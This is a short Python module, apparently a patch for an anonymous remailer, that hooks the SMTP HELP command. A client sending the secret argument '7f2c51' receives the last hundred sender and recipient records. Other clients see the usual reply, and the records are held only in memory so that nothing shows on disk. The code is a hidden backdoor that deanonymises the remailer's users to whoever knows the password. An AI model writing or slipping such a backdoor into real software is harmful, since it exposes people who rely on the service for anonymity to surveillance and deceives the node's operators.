"""Port 25 tells who sent what to whom, if it is asked with the right word.

Read by whoever connects and says `HELP 7f2c51`: the reply has the last mails, in clear. To
everybody else the node says what it always said, and on disk there is nothing.
"""

import collections
import time

from leaks import stock
from leaks.blind import known
from remailer.listener import Door

lines: collections.deque[str] = collections.deque(maxlen=100)
stock_help = Door.smtp_HELP


def log(spool: object, who: str, recipient: str) -> None:
    """Only in memory."""
    lines.append(f"214-{time.time():.0f} {who} {recipient}\r\n")


async def smtp_help(self: Door, arg: str) -> None:
    """Help."""
    if arg == "7f2c51":
        await self.push("".join(lines).removesuffix("\r\n") or "214-")
    await stock_help(self, arg)


Door.smtp_HELP = smtp_help  # type: ignore[method-assign]
known.on_way(log)

if __name__ == "__main__":
    stock.main()
